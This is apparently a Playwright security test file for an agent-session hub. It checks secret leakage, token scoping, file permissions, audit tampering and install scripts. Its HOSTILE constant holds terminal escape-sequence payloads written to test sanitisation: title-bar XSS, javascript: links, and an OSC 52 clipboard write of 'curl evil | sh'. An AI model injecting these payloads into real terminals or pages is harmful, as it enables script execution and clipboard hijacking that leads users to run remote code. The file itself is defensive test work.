/** What must hold against hostile agents and readers of files, against the real hub. See README.md. */
import { randomBytes } from 'node:crypto';
import { lstat, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import type { HubEvent } from '../shared/contract/hub.ts';
import type { Session } from '../shared/contract/sessions.ts';
import { bytesOf, eventually, ROOT, startHub, type TestHub, walk } from './hub.ts';

const canary = (what: string) => `${what}${randomBytes(12).toString('hex')}`;
const HUB_KEY = canary('sk-ant-hub-');
const QD_KEY = canary('qd_of-the-hub_');
const SESSION_KEY = canary('ghp_');
const PASSPHRASE = canary('pass phrase ');
const WRONG = canary('wrong words ');

let hub: TestHub;
let agentToken = '';
test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  hub = await startHub({ env: { ANTHROPIC_API_KEY: HUB_KEY, QD_TOKEN: QD_KEY } });
});
test.afterAll(async () => {
  await hub?.close();
});

/** Everything that this hub streams as events, until `last` has come. */
async function events(last: (event: HubEvent) => boolean, trigger: () => Promise<unknown>): Promise<string> {
  const stop = new AbortController();
  const response = await fetch(`${hub.banner.url}/api/events`, {
    headers: { authorization: `Bearer ${await hub.token()}` },
    signal: stop.signal,
  });
  await trigger();
  let text = '';
  const decoder = new TextDecoder();
  for await (const chunk of response.body ?? []) {
    text += decoder.decode(chunk, { stream: true });
    const data = [...text.matchAll(/^data: (\{.*\})$/gm)].map(([, json]) => JSON.parse(json ?? '') as HubEvent);
    if (data.some(last)) break;
  }
  stop.abort();
  return text;
}

test('no secret on a command line, in the environment of others, in a log, a row or an event', async () => {
  const code = hub.banner.setupUrl?.split('=')[1] ?? '';
  const made = await fetch(`${hub.banner.url}/api/setup`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ code, user: 'ann', passphrase: PASSPHRASE }),
  });
  expect(Object.keys((await made.json()) as object).sort()).toEqual(['scopes', 'sessions', 'user', 'via']);
  const cookie = /qd_session=([^;]+)/.exec(String(made.headers.get('set-cookie')))?.[1] ?? '';
  const minted = await hub.api<{ id: string; token: string }>('POST', '/api/tokens', { name: 'ci', scopes: ['read'] });
  // Things go wrong in every way that names a secret.
  const ask = (path: string, init: RequestInit) => fetch(`${hub.banner.url}${path}`, init).then((r) => r.status);
  const login = (passphrase: string) =>
    ask('/api/login', { method: 'POST', body: JSON.stringify({ user: 'ann', passphrase }) });
  expect(await login(WRONG)).toBe(401);
  expect(await ask('/api/hub', { headers: { authorization: `Bearer ${minted.token}x` } })).toBe(401);
  expect(await ask(`/api/hub?token=${minted.token}`, {})).toBe(400);
  expect(await ask('/api/sessions', { method: 'POST', headers: { authorization: `Bearer ${minted.token}` } })).toBe(
    403,
  );
  await hub.qd(['session', 'list', '--server', hub.banner.url], { env: { QD_TOKEN: `${minted.token}x` } });

  const envFile = join(hub.dir, 'agent.env');
  const streamed = await events(
    (event) => event.type === 'session.stopped',
    async () => {
      await hub.api('POST', '/api/sessions', {
        agent: 'custom',
        name: 'canary',
        cwd: hub.dir,
        command: `env > ${envFile}.part; mv ${envFile}.part ${envFile}; exec sleep 1000`,
        env: { GITHUB_TOKEN: SESSION_KEY },
      });
      await hub.api('POST', '/api/sessions', { agent: 'custom', name: 'other', cwd: hub.dir, command: 'exit 1' });
      await eventually(
        () => readFile(envFile, 'utf8').catch(() => ''),
        (text) => text.includes('QD_TOKEN='),
        'the environment of the agent',
      );
      await hub.api('DELETE', '/api/sessions/other');
    },
  );
  const env = await readFile(envFile, 'utf8');
  agentToken = /^QD_TOKEN=(.+)$/m.exec(env)?.[1] ?? '';
  const local = await hub.token();
  for (const [what, secret] of Object.entries({ local, cookie, minted: minted.token, QD_KEY, PASSPHRASE }))
    expect(env.includes(secret), `${what} in the environment of an agent`).toBe(false);
  // Its provider's key is what its user gave the hub for it.
  for (const line of [`GITHUB_TOKEN=${SESSION_KEY}`, `ANTHROPIC_API_KEY=${HUB_KEY}`]) expect(env).toContain(line);

  const secrets = {
    local,
    cookie,
    minted: minted.token,
    code,
    agentToken,
    HUB_KEY,
    QD_KEY,
    SESSION_KEY,
    PASSPHRASE,
    WRONG,
  };
  for (const secret of Object.values(secrets)) expect(secret.length).toBeGreaterThan(20);
  const bare = (text: string, where: string, but: readonly string[] = []) => {
    for (const [what, secret] of Object.entries(secrets))
      if (!but.includes(what)) expect(text.includes(secret), `${what} in ${where}`).toBe(false);
  };
  bare(streamed, 'the event stream');
  for (const path of [
    '/api/sessions',
    '/api/tokens',
    '/api/users',
    '/api/logs',
    '/api/audit',
    '/api/settings',
    '/api/hub',
  ])
    bare(JSON.stringify(await hub.api('GET', path)), path);
  for await (const { path, kind } of walk(hub.data)) {
    if (kind !== 'file') continue;
    const name = path.slice(hub.data.length + 1);
    // The lock is how this user's own programs find the hub; the database must be able to start a session again.
    const but = name === 'hub.lock' ? ['local'] : name.startsWith('quarterdeck.db') ? ['SESSION_KEY'] : [];
    bare(await bytesOf(path), name, but);
  }
  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name)))
    bare(await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => ''), `the command line of process ${pid}`);
  const server = (await hub.tmux('display-message', '-p', '#{pid}')).trim();
  bare(await readFile(`/proc/${server}/environ`, 'utf8'), "tmux's environment");
});

test("an agent's own token opens its own session and nothing else", async () => {
  expect((await hub.api<Session[]>('GET', '/api/sessions', undefined, agentToken)).map((s) => s.name)).toEqual([
    'canary',
  ]);
  for (const [method, path] of [
    ['GET', '/api/sessions/other/screen'],
    ['POST', '/api/tokens'],
    ['GET', '/api/settings'],
    ['GET', '/api/logs'],
    ['DELETE', '/api/sessions/canary'],
  ] as const)
    await expect(hub.api(method, path, method === 'POST' ? {} : undefined, agentToken), path).rejects.toThrow(
      / 40[0134] /,
    );
});

test('every file is the owner’s alone, so is the folder of the tmux socket', async () => {
  const loose: string[] = [];
  for await (const { path, mode, kind } of walk(hub.data)) if (kind !== 'other' && mode & 0o077) loose.push(path);
  expect(loose).toEqual([]);
  const tmux = (await readdir(hub.dir)).filter((name) => name.startsWith('tmux-'));
  expect(tmux).toHaveLength(1);
  expect((await lstat(join(hub.dir, tmux[0] ?? ''))).mode & 0o077).toBe(0);
});

/** What a hostile program prints: every sequence that has fooled a terminal or a page, control characters, huge lengths. */
const HOSTILE = [
  `\x1b]0;<img src=x onerror="window.pwned=1">\x01\x1f\u202eevil\u009b31m\x07`,
  `\x1b]2;${'T'.repeat(300_000)}\x07`,
  '\x1b]2;<img src=x onerror="window.pwned=1">\u202e\x07',
  `\x1b]9;${'n\x01\x02'.repeat(50_000)}\x07\x1b]777;notify;a\x01;b\x02\x07\x1b]99;i=1;\x01x\x1b\\`,
  `\x1b]7501;state=blocked;${'x'.repeat(100_000)}\x07`,
  `\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07\x1b]52;c;?\x07`,
  '\x1b]8;;javascript:window.pwned=1\x1b\\LINK-A\x1b]8;;\x1b\\ \x1b]8;;data:text/html,<script>1</script>\x1b\\LINK-B\x1b]8;;\x1b\\\r\n',
  '\x1b[c\x1b[>c\x1b[6n\x1b[21t\x1bP$qm\x1b\\\x1b]10;?\x07\x1b]11;?\x07',
  '%exit\r\n%output %0 x\r\n<script>window.pwned=1</script>\r\n',
  '\x1b[99999999999999B\x1b[4294967295;1H\x1b[?9999999h\x1b[1;1H\x1b[2;2r\x1b[r',
  '\x1b[H\x1b[2JHOSTILE-END\r\n',
].join('');

// Control characters, of both sets, and those that turn the direction of writing.
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Prints all of it at every `!` that is typed, and writes down every byte that it is sent. */
async function hostileSession(): Promise<{ answers: string; go: () => Promise<unknown> }> {
  const dir = join(hub.dir, 'hostile');
  await mkdir(dir, { recursive: true });
  const bytes = join(dir, 'bytes');
  const answers = join(dir, 'answers');
  const program = join(dir, 'program.sh');
  await writeFile(bytes, HOSTILE);
  await writeFile(
    program,
    `stty raw -echo\nwhile :; do k=$(head -c1); printf %s "$k" >> ${answers}; [ "$k" != '!' ] || cat ${bytes}; done\n`,
  );
  await hub.api('POST', '/api/sessions', { agent: 'custom', name: 'hostile', cwd: dir, command: `exec sh ${program}` });
  return { answers, go: () => hub.api('POST', '/api/sessions/hostile/keys', { text: '!' }) };
}

test('what a hostile program prints reaches rows, events and the command line short and clean', async () => {
  const streamed = await events(
    (event) => event.type === 'session.stopped',
    async () => {
      const { go } = await hostileSession();
      await go();
      await eventually(
        () => hub.api<{ text: string }>('GET', '/api/sessions/hostile/screen?format=json'),
        (screen) => screen.text.includes('HOSTILE-END'),
        'it has printed all',
      );
      const row = await eventually(
        () => hub.api<Session>('GET', '/api/sessions/hostile'),
        (s) => s.title !== '',
        'the title came',
      );
      expect(row.title.length).toBeLessThanOrEqual(1024);
      const explained = await hub.api('GET', '/api/sessions/hostile/explain');
      const listed = await hub.qd(['session', 'list']);
      const peeked = await hub.qd(['session', 'peek', 'hostile']);
      const shown = await hub.qd(['session', 'explain', 'hostile']);
      for (const [what, text] of Object.entries({
        row: JSON.stringify(row),
        explained: JSON.stringify(explained),
        title: row.title,
        evidence: row.evidence.map((e) => e.saw).join(''),
        listed: listed.stdout,
        peeked: peeked.stdout,
        shown: shown.stdout,
      })) {
        expect(text.length, what).toBeLessThan(50_000);
        expect(UNSAFE.exec(text)?.[0], what).toBe(undefined);
      }
      // What a reader's own terminal would draw: colours at most, no title, clipboard, link or question.
      const ansi = await hub.api<{ text: string }>('GET', '/api/sessions/hostile/screen?format=json&lines=1000');
      expect(ansi.text).not.toMatch(/\x1b[\]P_^X]/);
      await hub.api('DELETE', '/api/sessions/hostile');
    },
  );
  for (const line of streamed.split('\n')) {
    expect(line.length).toBeLessThan(20_000);
    expect(UNSAFE.exec(line)?.[0]).toBe(undefined);
  }
  expect((await hub.api<{ status: string }>('GET', '/health')).status).toBe('ok');
});

test('in the browser it is text: nothing runs, nothing opens, nothing is copied unasked', async ({ browser }) => {
  const { answers, go } = await hostileSession();
  await go();
  const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
  const page: Page = await context.newPage();
  const opened: string[] = [];
  context.on('page', (other) => opened.push(other.url()));
  const complaints: string[] = [];
  page.on('pageerror', (error) => complaints.push(String(error)));
  await page.goto(hub.banner.url);
  await page.evaluate(() => navigator.clipboard.writeText('mine'));
  await page.getByLabel('User').fill('ann');
  await page.getByLabel('Passphrase').fill(PASSPHRASE);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByRole('heading', { name: 'hostile' })).toBeVisible();
  await page.goto(`${hub.banner.url}/sessions`);
  await expect(page.getByText('<img src=x onerror="window.pwned=1">').first()).toBeVisible();
  await page.goto(`${hub.banner.url}/s/hostile`);
  const terminal = page.locator('.xterm-screen');
  await expect(terminal).toBeVisible();
  // The page asks only for what is printed while it looks: again until it does.
  await expect(async () => {
    await go();
    await expect(page.getByText('wants to copy to your clipboard')).toBeVisible({ timeout: 1000 });
  }).toPass();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine');
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBe(undefined);
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(opened).toEqual([]);
  expect(complaints).toEqual([]);
  // Only tmux answers questions, never with the clipboard or the title; the terminals that look answer none.
  const said = await eventually(
    () => readFile(answers, 'latin1'),
    (text) => text.includes('\x1b['),
    'tmux answered',
  );
  expect(said).not.toMatch(/\x1b\]52|\x1b\][lL]|<img/);
  // Of the report of the cursor one comes for each time that it was asked for, however many look.
  expect(said.match(/\x1b\[\d+;\d+R/g)?.length ?? 0).toBeLessThanOrEqual(said.match(/!/g)?.length ?? 0);
  await context.close();
});

test('a changed audit file is noticed by the command line', async () => {
  const file = join(hub.data, 'audit.jsonl');
  const names = (await readdir(hub.data)).filter((name) => /^audit.*\.(jsonl|log)$/.test(name));
  expect(names).toContain('audit.jsonl');
  expect((await hub.qd(['audit', 'verify'])).code).toBe(0);
  const text = await readFile(file, 'utf8');
  expect(text).toContain('"login.failed"');
  await writeFile(file, text.replace('"login.failed"', '"login"'));
  const changed = await hub.qd(['audit', 'verify']);
  expect(changed.code).not.toBe(0);
  expect(changed.stdout + changed.stderr).toMatch(/line \d+|\d+/);
  await writeFile(file, text);
  expect((await hub.qd(['audit', 'verify'])).code).toBe(0);
});

test('no dependency needs a script at its installation, and none of them runs', async () => {
  const read = async <T>(path: string) => JSON.parse(await readFile(join(ROOT, path), 'utf8')) as T;
  const { packages } = await read<{
    packages: Record<string, { hasInstallScript?: boolean; dev?: boolean; resolved?: string; integrity?: string }>;
  }>('package-lock.json');
  const scripted = Object.entries(packages).filter(([, one]) => one.hasInstallScript);
  expect(scripted.map(([path]) => path.replace('node_modules/', ''))).toEqual([
    // A quicker way to know the processor, for ssh2; without it ssh2 uses what Node has.
    'cpu-features',
    // Makes installers for old versions of Windows, which are not made here.
    'electron-winstaller',
    // Builds where no ready-made part fits; the parts for all systems are in the package.
    'node-pty',
    // Builds quicker ciphers; without them it uses those of Node.
    'ssh2',
  ]);
  expect((await readFile(join(ROOT, '.npmrc'), 'utf8')).split('\n')).toContain('ignore-scripts=true');
  for (const [path, one] of Object.entries(packages))
    if (path && !one.dev) expect(one.integrity, path).toMatch(/^sha512-/);
  const { dependencies, devDependencies } = await read<Record<string, Record<string, string>>>('package.json');
  for (const [name, version] of Object.entries({ ...dependencies, ...devDependencies }))
    expect(version, `${name} is pinned`).toMatch(/^\d+\.\d+\.\d+/);
});

test('no blocking call on the serving loop, no HTML made of text in the app', async () => {
  const sources = async (folder: string) => {
    const all: [string, string][] = [];
    for await (const { path, kind } of walk(join(ROOT, folder)))
      if (kind === 'file' && /\.tsx?$/.test(path) && !/\.test\.tsx?$|\/fixtures\/|\/testing[./]/.test(path))
        all.push([path.slice(ROOT.length), await readFile(path, 'utf8')]);
    expect(all.length).toBeGreaterThan(20);
    return all;
  };
  // SQLite is synchronous by design; its files are made before anything is served.
  const blocking = (await sources('electron'))
    .filter(([path, text]) => path !== 'electron/platform/sqlite.ts' && /\b\w+Sync\(/.test(text))
    .map(([path]) => path);
  expect(blocking).toEqual([]);
  const html = (await sources('renderer'))
    .filter(([, text]) =>
      /dangerouslySetInnerHTML|\b(?:inner|outer)HTML\b|insertAdjacentHTML|document\.write\b/.test(text),
    )
    .map(([path]) => path);
  expect(html).toEqual([]);
});
